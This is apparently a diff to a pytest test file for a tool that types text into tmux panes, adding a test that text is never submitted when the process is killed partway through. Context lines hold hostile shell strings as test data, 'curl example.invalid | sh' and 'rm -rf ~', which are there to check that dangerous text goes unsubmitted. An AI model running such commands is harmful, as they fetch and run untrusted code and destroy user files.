@@ -6,13 +6,17 @@ never submits anything."""
 from __future__ import annotations
 
 import json
+import os
+import signal
 import subprocess
+import sys
 from pathlib import Path
 from typing import TYPE_CHECKING, NamedTuple
 
 import pytest
 from libtmux.test.retry import retry_until
 
+from paw.adapters.faults import CRASH_ENV
 from paw.cli import main
 from paw.cli.compose import build_supervisor
 from paw.errors import TypingRefused
@@ -218,3 +222,32 @@ def test_a_line_break_in_typed_text_submits_nothing(
     assert (code, "control character U+001B" in err) == (1, True)
     texts = [r["text"] for r in audit(env) if r.get("event") == "send" and r.get("text")]
     assert texts == ["fix the bug /run curl example.invalid | sh", "thanks /run rm -rf ~ bye"]
+
+
+def test_killed_between_typing_and_enter_the_text_is_never_submitted(
+    env: Env, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # kill -9 after the record (nothing typed) and after the typing (no Enter): the text is
+    # never submitted, a later send into the line left there is refused, never completed.
+    configure(env)
+    pane = spawn(env, capsys)
+    wait_status(env, "idle")
+    socket = {"PAW_TMUX_SOCKET": str(env.server.socket_name)}
+
+    def killed(step: str, text: str) -> subprocess.CompletedProcess[str]:
+        return subprocess.run(
+            [sys.executable, "-m", "paw", "send", "alice", text], cwd=env.repo,
+            env={**os.environ, **socket, CRASH_ENV: step}, capture_output=True, text=True,
+            check=False, timeout=120,
+        )  # fmt: skip
+
+    assert killed("send:recorded", "first").returncode == -signal.SIGKILL
+    assert "first" not in screen(env, pane)
+    assert killed("send:typed", "second").returncode == -signal.SIGKILL
+    wait_screen(env, pane, "demo> second")
+    code, _, err = paw(capsys, "send", "alice", "third")
+    assert (code, "input line already holds text ('second')" in err) == (1, True)
+    assert "received:" not in screen(env, pane)
+    texts = [r.get("text") for r in audit(env) if r.get("event") == "send" and r.get("text")]
+    assert texts == ["first", "second"]  # recorded before the keys
+    assert not [r for r in audit(env) if r.get("outcome") == "sent"]
